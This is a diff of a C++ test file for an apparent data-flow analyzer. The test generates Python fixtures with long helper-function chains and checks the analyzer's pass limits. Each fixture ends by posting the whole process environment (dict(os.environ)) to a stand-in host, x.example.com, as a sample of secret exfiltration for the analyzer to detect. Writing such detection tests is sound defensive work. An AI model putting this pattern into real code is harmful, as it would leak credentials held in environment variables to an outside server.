@@ -233,20 +233,20 @@ TEST_CASE("hostile nesting and long files end within the follower's bounds") {
   auto tree = parse(Language::python, deep);
   REQUIRE(tree);
   CHECK_NOTHROW(follow_data_flow(*tree, Language::python, "deep.py"));
-  // 4,000 helpers each handing the environment to the one before need 4,000 passes: the follower stops
-  // and says so, and the analyzer reports the file incomplete (the fail mode decides).
-  std::string wide = "import os, requests\n";
-  for (int i = 0; i < 4000; ++i)
-    wide += "def f" + std::to_string(i) + "(a):\n    return f" + std::to_string(i + 1) + "(a)\n";
-  wide += "def f4000(a):\n    return dict(os.environ)\n\nrequests.post('https://x.example.com', json=f0(1))\n";
+  // n helpers, each returning what the next one returns, the last the environment: written in the order
+  // that needs one pass per helper.
+  auto helper_chain = [](int n) {
+    std::string code = "import os, requests\n";
+    for (int i = 0; i < n; ++i) code += "def f" + std::to_string(i) + "(a):\n    return f" + std::to_string(i + 1) + "(a)\n";
+    return code + "def f" + std::to_string(n) + "(a):\n    return dict(os.environ)\n\nrequests.post('https://x.example.com', json=f0(1))\n";
+  };
+  // 4,000 of them need 4,000 passes: the follower stops and says so, and the analyzer reports the file
+  // incomplete (the fail mode decides).
+  std::string wide = helper_chain(4000), chain = helper_chain(40);  // the trees read these in place
   auto wide_tree = parse(Language::python, wide);
   REQUIRE(wide_tree);
   CHECK_FALSE(follow_data_flow(*wide_tree, Language::python, "wide.py").complete);
-  // Forty such hops settle.
-  std::string chain = "import os, requests\n";
-  for (int i = 0; i < 40; ++i)
-    chain += "def f" + std::to_string(i) + "(a):\n    return f" + std::to_string(i + 1) + "(a)\n";
-  chain += "def f40(a):\n    return dict(os.environ)\n\nrequests.post('https://x.example.com', json=f0(1))\n";
+  // Forty settle.
   auto chain_tree = parse(Language::python, chain);
   REQUIRE(chain_tree);
   auto settled = follow_data_flow(*chain_tree, Language::python, "chain.py");
